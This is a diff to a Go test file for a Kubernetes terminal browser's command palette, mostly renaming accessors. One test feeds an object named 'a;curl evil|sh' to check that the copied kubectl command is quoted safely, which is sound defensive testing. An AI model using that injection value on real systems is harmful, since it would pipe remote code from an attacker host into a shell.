@@ -16,7 +16,7 @@ import (
 
 func (p *play) suggests() []string {
 	var out []string
-	for _, s := range p.m.Palette().Suggestions {
+	for _, s := range p.m.Keyboard.Palette().Suggestions {
 		out = append(out, s.Text)
 	}
 	return out
@@ -42,8 +42,8 @@ func TestThePaletteCompletesVerbsThenTheirArguments(t *testing.T) {
 		t.Errorf("arguments (-want +got):\n%s", diff)
 	}
 	p.keys("down", "down", "enter")
-	if g := p.m.Settings().Group; g != rows.GroupKind || p.m.Mode() != Browsing {
-		t.Errorf("grouped by %s, mode %d", g, p.m.Mode())
+	if g := p.m.Tree.Settings().Group; g != rows.GroupKind || p.m.Keyboard.Mode() != Browsing {
+		t.Errorf("grouped by %s, mode %d", g, p.m.Keyboard.Mode())
 	}
 	p.keys(":")
 	p.typesIn("namespace to")
@@ -57,21 +57,21 @@ func TestThePaletteDoesWhatAnyKeyDoes(t *testing.T) {
 	p := screen(t)
 	p.keys(":")
 	p.typesIn("tim")
-	if s := p.m.Palette().Suggestions; len(s) == 0 || s[0].Text != "timeline" || s[0].Key != "6" {
+	if s := p.m.Keyboard.Palette().Suggestions; len(s) == 0 || s[0].Text != "timeline" || s[0].Key != "6" {
 		t.Fatalf("suggested: %+v", s)
 	}
 	p.keys("enter")
-	if p.m.Pane() != PaneTimeline {
-		t.Errorf("pane %d", p.m.Pane())
+	if p.m.Panes.Pane() != PaneTimeline {
+		t.Errorf("pane %d", p.m.Panes.Pane())
 	}
 	p.keys(":")
 	p.typesIn("theme")
 	p.keys("enter")
-	if v := p.m.Palette(); p.m.input.Value() != "theme " || p.m.Mode() != Commanding {
+	if v := p.m.Keyboard.Palette(); p.m.Keyboard.input.Value() != "theme " || p.m.Keyboard.Mode() != Commanding {
 		t.Errorf("enter on a verb asks for its argument: %+v", v)
 	}
 	p.keys("esc")
-	if p.m.Mode() != Browsing {
+	if p.m.Keyboard.Mode() != Browsing {
 		t.Error("esc does not close it")
 	}
 }
@@ -81,13 +81,13 @@ func TestThePaletteSaysWhatItCannotDo(t *testing.T) {
 	p.keys(":")
 	p.typesIn("sort sideways")
 	p.keys("enter")
-	if v := p.m.Palette(); v.Error != "there is no sort sideways" || p.m.Mode() != Commanding {
+	if v := p.m.Keyboard.Palette(); v.Error != "there is no sort sideways" || p.m.Keyboard.Mode() != Commanding {
 		t.Errorf("%+v", v)
 	}
 	p.keys("ctrl+u")
 	p.typesIn("frobnicate")
 	p.keys("enter")
-	if v := p.m.Palette(); v.Error != "no such command" {
+	if v := p.m.Keyboard.Palette(); v.Error != "no such command" {
 		t.Errorf("%+v", v)
 	}
 }
@@ -131,7 +131,7 @@ func TestThePaletteChangesToAnotherContextOrSource(t *testing.T) {
 	p.keys(":")
 	p.typesIn("context prod-u")
 	p.keys("enter")
-	if p.other != (Other{Context: "prod-us1"}) || p.m.Mode() != Browsing {
+	if p.other != (Other{Context: "prod-us1"}) || p.m.Keyboard.Mode() != Browsing {
 		t.Errorf("asked for %+v", p.other)
 	}
 	p.keys(":")
@@ -147,7 +147,7 @@ func TestThePaletteChangesToAnotherContextOrSource(t *testing.T) {
 	if p.other != (Other{Source: "sts/Cache -n Data"}) {
 		t.Errorf("asked for %+v", p.other)
 	}
-	if n := p.m.Notices(); len(n) == 0 || n[len(n)-1].Text != "it cannot be followed" {
+	if n := p.m.Facts.Notices(); len(n) == 0 || n[len(n)-1].Text != "it cannot be followed" {
 		t.Errorf("that it failed is not told: %+v", n)
 	}
 }
@@ -159,8 +159,8 @@ func TestARecordingFollowsNothingElse(t *testing.T) {
 		p.keys(":")
 		p.typesIn(command)
 		p.keys("enter")
-		if p.other != (Other{}) || p.m.Flash() != "it is a recording" {
-			t.Errorf("%s: %+v, and %q is said", command, p.other, p.m.Flash())
+		if p.other != (Other{}) || p.m.Display.Flash() != "it is a recording" {
+			t.Errorf("%s: %+v, and %q is said", command, p.other, p.m.Display.Flash())
 		}
 		p.keys("esc")
 	}
@@ -172,8 +172,8 @@ func TestACommandToCopyIsNothingButWordsToAShell(t *testing.T) {
 	odd := &object.Object{ID: object.ID{Group: "x.io", Kind: "W", Namespace: "a b", Name: "a;curl evil|sh"}, UID: "w"}
 	b.Objects, b.Roots = []*object.Object{odd}, []feed.Root{{ID: odd.ID}}
 	p.batch(0, b)
-	n := p.m.World.Nodes[odd.ID]
-	if got, want := p.m.nextCommand(n), "kubectl -n 'a b' describe 'w.x.io/a;curl evil|sh'"; got != want {
+	n := p.m.Facts.World.Nodes[odd.ID]
+	if got, want := p.m.Intake.nextCommand(n), "kubectl -n 'a b' describe 'w.x.io/a;curl evil|sh'"; got != want {
 		t.Errorf("%s, want %s", got, want)
 	}
 }
@@ -197,7 +197,7 @@ func TestTheCopyMenuTakesEverythingToTheClipboard(t *testing.T) {
 	p.keys("C")
 	p.typesIn("yaml")
 	p.keys("enter")
-	p.send(DetailLoaded{Gen: p.m.yaml.gen, Detail: feed.Detail{YAML: "kind: Deployment\n"}})
+	p.send(DetailLoaded{Gen: p.m.Panes.yaml.gen, Detail: feed.Detail{YAML: "kind: Deployment\n"}})
 	if text := p.clipboard(); text != "kind: Deployment\n" {
 		t.Errorf("YAML: %q", text)
 	}
@@ -230,11 +230,11 @@ func TestShortNamesOfCommandsAreUnderstood(t *testing.T) {
 	p.keys(":")
 	p.typesIn("ns elsewhere")
 	p.keys("enter")
-	if in, e := p.m.Input(), p.m.Palette().Error; in.Value() != "source --all -n elsewhere" || e != "nothing here is in it" {
+	if in, e := p.m.Keyboard.Input(), p.m.Keyboard.Palette().Error; in.Value() != "source --all -n elsewhere" || e != "nothing here is in it" {
 		t.Errorf("how would one get there? %q, %q", in.Value(), e)
 	}
-	if p.keys("enter"); p.other.Source != "--all -n elsewhere" || p.m.Mode() != Browsing {
-		t.Errorf("asked for: %+v; the palette says %q", p.other, p.m.Palette().Error)
+	if p.keys("enter"); p.other.Source != "--all -n elsewhere" || p.m.Keyboard.Mode() != Browsing {
+		t.Errorf("asked for: %+v; the palette says %q", p.other, p.m.Keyboard.Palette().Error)
 	}
 }
 
@@ -246,14 +246,14 @@ func TestWhereAllOfANamespaceIsFollowedAnotherOneIsGoneTo(t *testing.T) {
 	p.keys(":")
 	p.typesIn("ns elsewhere")
 	p.keys("enter")
-	if p.other.Source != "--all -n elsewhere" || p.m.Mode() != Browsing {
-		t.Errorf("asked for: %+v; the palette says %q", p.other, p.m.Palette().Error)
+	if p.other.Source != "--all -n elsewhere" || p.m.Keyboard.Mode() != Browsing {
+		t.Errorf("asked for: %+v; the palette says %q", p.other, p.m.Keyboard.Palette().Error)
 	}
 	p.keys(":")
 	p.typesIn("ns tool") // a part of tools, but it may be meant
 	p.keys("down", "enter")
-	if p.other.Source != "--all -n tool" || p.m.Mode() != Browsing {
-		t.Errorf("asked for: %+v; the palette says %q", p.other, p.m.Palette().Error)
+	if p.other.Source != "--all -n tool" || p.m.Keyboard.Mode() != Browsing {
+		t.Errorf("asked for: %+v; the palette says %q", p.other, p.m.Keyboard.Palette().Error)
 	}
 }
 
@@ -265,7 +265,7 @@ func TestThePaletteSaysWhatIsInForceAndWhatWouldBeCopied(t *testing.T) {
 		p.keys(":")
 		p.typesIn(command)
 		defer p.keys("esc")
-		for _, s := range p.m.Palette().Suggestions {
+		for _, s := range p.m.Keyboard.Palette().Suggestions {
 			if s.Text == text {
 				return s.Hint
 			}
@@ -273,9 +273,9 @@ func TestThePaletteSaysWhatIsInForceAndWhatWouldBeCopied(t *testing.T) {
 		t.Fatalf("%s does not suggest %q", command, text)
 		return ""
 	}
-	p.m.foldAll(rows.FoldNothing)
+	p.m.Tree.foldAll(rows.FoldNothing)
 	p.keys("b", "down", "down")
-	key, _ := p.m.Selected()
+	key, _ := p.m.Tree.Selected()
 	for _, c := range []struct{ command, text, want string }{
 		{"group ", "group namespace", "now"},
 		{"group ", "group none", ""},
@@ -300,8 +300,8 @@ func TestAResourceNameInThePaletteFilters(t *testing.T) {
 		p.keys(":")
 		p.send(tea.PasteMsg{Content: typed})
 		p.keys("enter")
-		if got := filterOf(p); got != "kind=pod" || p.m.Mode() != Browsing {
-			t.Errorf(":%s filters by %q, mode %d", typed, got, p.m.Mode())
+		if got := filterOf(p); got != "kind=pod" || p.m.Keyboard.Mode() != Browsing {
+			t.Errorf(":%s filters by %q, mode %d", typed, got, p.m.Keyboard.Mode())
 		}
 	}
 }
@@ -313,11 +313,11 @@ func TestThePaletteRunsNothingThatWasNotTyped(t *testing.T) {
 	p.batch(0, b)
 	p.keys(":")
 	p.send(tea.PasteMsg{Content: "current"}) // fold-current
-	if p.keys("enter"); p.m.Mode() != Commanding || p.m.Input().Value() != "fold-current" {
-		t.Errorf("mode %d, input %q: run, or not proposed", p.m.Mode(), p.m.Input().Value())
+	if p.keys("enter"); p.m.Keyboard.Mode() != Commanding || p.m.Keyboard.Input().Value() != "fold-current" {
+		t.Errorf("mode %d, input %q: run, or not proposed", p.m.Keyboard.Mode(), p.m.Keyboard.Input().Value())
 	}
-	if p.keys("enter"); p.m.Mode() != Browsing {
-		t.Errorf("enter again does not run it: mode %d", p.m.Mode())
+	if p.keys("enter"); p.m.Keyboard.Mode() != Browsing {
+		t.Errorf("enter again does not run it: mode %d", p.m.Keyboard.Mode())
 	}
 }
 
@@ -326,7 +326,7 @@ func TestThePaletteMarksThePresentTheme(t *testing.T) {
 	present := func() (names []string) {
 		p.keys(":")
 		p.send(tea.PasteMsg{Content: "theme "})
-		for _, s := range p.m.Palette().Suggestions {
+		for _, s := range p.m.Keyboard.Palette().Suggestions {
 			if s.Hint == "now" {
 				names = append(names, s.Text)
 			}
